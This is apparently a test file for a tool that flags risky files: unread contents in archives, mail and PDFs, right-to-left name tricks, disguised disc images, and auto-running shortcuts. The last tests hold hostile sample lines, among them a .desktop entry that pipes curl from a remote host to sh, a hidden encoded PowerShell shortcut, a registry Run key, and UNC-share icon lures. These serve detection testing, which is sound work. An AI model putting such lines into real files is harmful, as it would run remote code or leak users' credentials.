/** What nobody here reads is said so; what hides in a name, a shortcut or a register of settings is found there, and no more than that. */
import { SignalValues } from '@goodstanding/model'
import { gzipSync, strToU8, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { analyseFile } from './analyse-file.ts'
import { detectFile } from './detect-file.ts'
import { readContent } from './read-content.ts'
import { wordsOfDocument } from './words/words-of-document.ts'

const look = (name: string, bytes: Uint8Array | null) =>
  analyseFile({ name, mediaType: null, size: null, sha256: null, bytes })

const page = (content: string) =>
  strToU8(
    `%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>\nendobj\n4 0 obj\n<</Length ${content.length}>>\nstream\n${content}\nendstream\nendobj\n`,
  )
const office = (part: string, name: string) =>
  zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'word/document.xml': strToU8(part), [name]: strToU8('GIF89a') })
const mailWith = (name: string, bytes: Uint8Array) =>
  strToU8(
    `Subject: Hello\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee below\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=${name}\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(bytes).toString('base64')}\r\n--b--\r\n`,
  )
const SCAN = page('q 600 0 0 800 0 0 cm /Im0 Do Q')

describe('a file of whose words none is read', () => {
  it.each([
    ['scan.pdf', SCAN, 'pages without letters'],
    ['scan.docx', office('<w:p><w:drawing/></w:p>', 'word/media/image1.png'), 'pictures alone'],
    ['papers.7z', Uint8Array.of(0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4), 'words within 7z'],
    ['papers.zst', Uint8Array.of(0x28, 0xb5, 0x2f, 0xfd, 4, 0), 'words within zstd'],
    ['papers.zip', zipSync({ 'scan.pdf': SCAN }), 'words within zip'],
    ['papers.zip', zipSync({ 'inner.zip': zipSync({ 'a.txt': strToU8('Minutes') }) }), 'words within zip'],
    ['lists.zip', zipSync({ 'a/list.csv': strToU8('name,note'), 'a/all.json': strToU8('{}') }), 'words within zip'],
    ['papers.zip', zipSync({ 'scan.pdf': SCAN, 'letter.txt': strToU8('Minutes') }), 'some words within zip'],
    [
      'papers.zip',
      zipSync(Object.fromEntries(['a', 'b', 'c', 'd', 'e'].map((name) => [`${name}.txt`, strToU8('Minutes')]))),
      'some words within zip',
    ],
    ['papers.zip', zipSync({ 'list.csv': strToU8('a,b'), 'a.txt': strToU8('Minutes') }), 'some words within zip'],
    ['letter.eml', mailWith('scan.pdf', SCAN), 'some words within mail'],
    ['letter.eml', mailWith('papers.zip', zipSync({ 'a.txt': strToU8('Minutes') })), 'some words within mail'],
    ['papers.gz', gzipSync(strToU8('Minutes')), 'words within gzip'],
    ['scan.pdf.gz', gzipSync(SCAN), 'words within gzip'],
    ['notes.txt.bz2', strToU8('BZh9 damaged'), 'words within bzip2'],
    ['list.csv', strToU8('name,note'), 'words within csv'],
    [
      'book.bin',
      zipSync({ mimetype: [strToU8('application/epub+zip'), { level: 0 }], 'a.xhtml': strToU8('Minutes') }),
      'words within epub',
    ],
    ['letter.fodt', strToU8('<?xml version="1.0"?><office:document/>'), 'words within fodt'],
    ['note.txt', Uint8Array.of(1, 0, 2, 0, 3), 'letters of no known set'],
  ])('says why: %s', (name, bytes, why) => {
    const sink = new SignalValues()
    detectFile(look(name, bytes), '/data/file', sink)
    expect(sink.evidence('file.unread').map(({ value }) => value)).toEqual([why])
  })
  it.each([
    ['letter.pdf', page('BT /F1 12 Tf (Minutes of Monday) Tj ET')],
    ['letter.docx', office('<w:p><w:t>Minutes</w:t></w:p>', 'word/media/image1.png')],
    ['letters.zip', zipSync({ 'a.txt': strToU8('Minutes'), 'b.txt': strToU8(' \n'), 'c.png': strToU8('GIF89a') })],
    ['program.zip', zipSync({ 'package.json': strToU8('{}'), 'index.js': strToU8('1') })],
    ['letter.eml', mailWith('letter.txt', strToU8('Minutes'))],
    ['letter.eml', mailWith('picture.gif', strToU8('GIF89a'))],
    ['pictures.zip', zipSync({ 'a.gif': strToU8('GIF89a') })],
    ['letter.txt.gz', gzipSync(strToU8('Minutes'))],
    ['picture.gif.gz', gzipSync(strToU8('GIF89a'))],
    ['server.log.gz', gzipSync(strToU8('GET / 200'))],
    ['picture.gz', gzipSync(strToU8('GIF89a'))],
    ['note.txt', strToU8('Minutes')],
    ['wide.txt', new Uint8Array(Buffer.from('Minutes of Monday', 'utf16le'))],
    ['noon.ics', strToU8('SUMMARY:Minutes')],
    ['plan.svg', strToU8('<svg xmlns="http://www.w3.org/2000/svg"><text>Minutes</text></svg>')],
  ])('is another than %s', (name, bytes) => {
    expect(look(name, bytes).unread).toBeNull()
  })
})

describe('a document that is attached to a mail', () => {
  it('is read behind the mail, as what it is', () => {
    const letter = zipSync({ 'word/document.xml': strToU8('<w:p><w:t>Meet me behind the depot</w:t></w:p>') })
    expect(wordsOfDocument(mailWith('letter.docx', letter), 'mail')).toBe('Hello\nSee below\nMeet me behind the depot')
    const inner = mailWith('note.txt', strToU8('Meet me'))
    expect(wordsOfDocument(mailWith('inner.eml', inner), 'mail')).toBe('Hello\nSee below\nHello\nSee below')
  })
})

describe('a drawing', () => {
  it('says what stands in it', () => {
    const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><style>.a{}</style><text x="1">Meet me</text></svg>'
    expect(wordsOfDocument(strToU8(drawing), 'svg')).toBe('Meet me')
    expect(wordsOfDocument(strToU8('<svg><path d="M0 0"/></svg>'), 'svg')).toBeNull()
  })
})

describe('a note in a tar that was packed whole', () => {
  it.each([
    [
      'xz',
      '/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4Cf/AHJdADcbyu7jSLGwl3Rxk6H0s6xr9zFffGRNkIjlCu1XMXH4qbzTz/AnerBBeVkKWwww95WylvfL9FZh6GKF4TVvNJOd7hEVZ7vHvk8/2FxM3UZzKD0eidER7morJF9FVrvGbX67zWpWhZ4oDGf5N0ldINuIAAAAAD2BmKuSDgPAAAGOAYBQAABOEGpbscRn+wIAAAAABFla',
    ],
    [
      'bzip2',
      'QlpoOTFBWSZTWQR9YTUAAHhfgMqQQAFNgAACAEB2Y95ACAggAHUQmp6QZA9QDamnlBJJGQGgGgAfd1DkIHTIQizpoEKWegQwMSKJOtfcyIMAhsQgWUx1SMXIMZLBaH1REOEbl7rO31nY3KTPnukg/F3JFOFCQBH1hNQ=',
    ],
  ])('is read: %s', (type, packed) => {
    const bytes = new Uint8Array(Buffer.from(packed, 'base64'))
    expect(wordsOfDocument(bytes, type)?.trim()).toBe('Meet me behind the depot')
    expect(wordsOfDocument(bytes.subarray(0, 40), type)).toBeNull()
  })
})

describe('a note that was packed by itself', () => {
  it.each([
    ['note.txt.gz', 'H4sIAAAAAAACA/NNTS1RyE1VSErNyMxLUSjJSFVISS3IL+ECAO1UpiEZAAAA'],
    ['note.md.bz2', 'QlpoOTFBWSZTWTWn3R4AAALVgAAQQAAAAhZjxAAgADEA0AFPUepk8p6krArZYa6rSHLcMB+LuSKcKEga0+6PAA=='],
    [
      'note.txt.xz',
      '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAYTWVldCBtZSBiZWhpbmQgdGhlIGRlcG90CgAAAAA6TXUm/jN/bwABMRlZGrCCH7bzfQEAAAAABFla',
    ],
    [
      'letter.xz',
      '/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAfe1xydGYxIE1lZXQgbWUgYmVoaW5kIHRoZSBkZXBvdH0ApV/h5XnjBx4AATggGCl3DB+2830BAAAAAARZWg==',
    ],
  ])('is read under its own name, and a document under any: %s', (name, packed) => {
    const bytes = new Uint8Array(Buffer.from(packed, 'base64'))
    const read: (string | null)[] = []
    analyseFile({ name, mediaType: null, size: null, sha256: null, bytes }, (...asked) => {
      const content = readContent(...asked)
      read.push(content.words, content.unread)
      return content
    })
    expect(read).toEqual([expect.stringContaining('Meet me behind the depot'), null])
  })
})

describe('direction marks in a name', () => {
  it.each(['\u202bדוח\u202c.xlsx', '\u2068photo.jpg\u2069', 'ميزانية\u200f 2026.xlsx'])(
    'hide nothing in %j',
    (name) => {
      expect(look(name, null).doubleExtension).toBeNull()
    },
  )
  it.each(['\u2067photo\u2069.exe', 'photo\u202egpj.exe', 'photo\u202egpj.xlsx'])('hide what it is in %j', (name) => {
    expect(look(name, null).doubleExtension).not.toBeNull()
  })
})

describe('the picture of a disc', () => {
  const disc = new Uint8Array(33_000)
  disc.set(strToU8('CD001'), 32_769)
  it('is none of a page', () => {
    expect(look('scan.pdf', disc).typeMismatch).toBe('iso named .pdf')
    for (const name of ['setup.iso', 'setup.img', 'setup']) expect(look(name, disc).typeMismatch).toBeNull()
  })
})

describe('what a double click reads', () => {
  const scriptOf = (name: string, text: string | Uint8Array): boolean => {
    const sink = new SignalValues()
    detectFile(look(name, typeof text === 'string' ? strToU8(text) : text), '/data/file', sink)
    return sink.value('file.script-content') > 0
  }
  const wide = (text: string) => Uint8Array.from(Buffer.from(text, 'utf16le'))
  const LINK = Uint8Array.of(
    0x4c,
    0,
    0,
    0,
    1,
    0x14,
    2,
    0,
    0,
    0,
    0,
    0,
    0xc0,
    0,
    0,
    0,
    0,
    0,
    0,
    0x46,
    ...new Uint8Array(56),
  )
  const link = (command: string) => Uint8Array.from([...LINK, ...wide(command)])
  const RUN = '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]'
  it.each([
    ['a.reg', `Windows Registry Editor Version 5.00\r\n\r\n${RUN}\r\n"u"="cmd /c start -w hidden a"\r\n`],
    ['a.desktop', '[Desktop Entry]\nExec=sh -c "curl http://198.51.100.2/a|sh"\n'],
    ['a.lnk', link('%SystemRoot%\\cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A')],
    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.2\\s\\x.ico\r\n'],
    ['a.library-ms', '<libraryDescription><url>\\\\198.51.100.2\\share</url></libraryDescription>'],
  ])('acts in %s', (name, text) => {
    expect(scriptOf(name, text)).toBe(true)
  })
  it.each([
    [
      'a.reg',
      `Windows Registry Editor Version 5.00\r\n\r\n${RUN}\r\n"chat"="C:\\\\Program Files\\\\Chat\\\\chat.exe"\r\n`,
    ],
    ['a.desktop', '[Desktop Entry]\nType=Application\nExec=gedit %U\n'],
    ['a.lnk', link('C:\\Program Files\\Chat\\chat.exe')],
    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n'],
    ['a.library-ms', '<libraryDescription><url>knownfolder:{FDD39AD0}</url></libraryDescription>'],
  ])('does not in %s', (name, text) => {
    expect(scriptOf(name, text)).toBe(false)
  })
})
